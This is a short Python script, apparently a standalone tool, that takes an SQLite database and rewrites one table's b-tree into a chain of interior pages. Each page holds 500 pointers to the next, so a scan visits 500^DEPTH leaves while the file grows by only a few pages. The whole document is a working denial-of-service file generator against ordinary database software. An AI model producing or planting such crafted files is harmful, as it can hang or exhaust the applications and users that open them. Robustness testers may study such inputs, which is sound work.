#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""bomb.py IN.sqlite OUT.sqlite TABLE [DEPTH]: the b-tree of TABLE becomes a few pages of which each has 500 children,
all of them the next page: SQLite visits 500^DEPTH leaves. The file grows by DEPTH pages."""
import sqlite3
import struct
import sys

src, dst, table = sys.argv[1:4]
depth = int(sys.argv[4]) if len(sys.argv) > 4 else 12
root = sqlite3.connect(src).execute("select rootpage from sqlite_schema where name=?", (table,)).fetchone()[0]
data = bytearray(open(src, "rb").read())
P = 4096
pages = len(data) // P
leaf = bytes(data[(root - 1) * P:root * P])
assert leaf[0] == 0x0d and struct.unpack(">H", leaf[3:5])[0] >= 1, "wants a leaf with rows"
def interior(child, n=500, key=100):
    page = bytearray(P)
    at = P
    offsets = []
    for _ in range(n):
        at -= 5
        page[at:at + 5] = struct.pack(">I", child) + bytes([key])
        offsets.append(at)
    page[0] = 0x05
    page[3:5] = struct.pack(">H", n)
    page[5:7] = struct.pack(">H", at)
    page[8:12] = struct.pack(">I", child)
    for i, o in enumerate(offsets):
        page[12 + 2 * i:14 + 2 * i] = struct.pack(">H", o)
    return bytes(page)
data += leaf                      # page pages+1
child = pages + 1
for _ in range(depth - 1):
    data += interior(child)
    child += 1
data[(root - 1) * P:root * P] = interior(child)
data[28:32] = struct.pack(">I", len(data) // P)
open(dst, "wb").write(data)
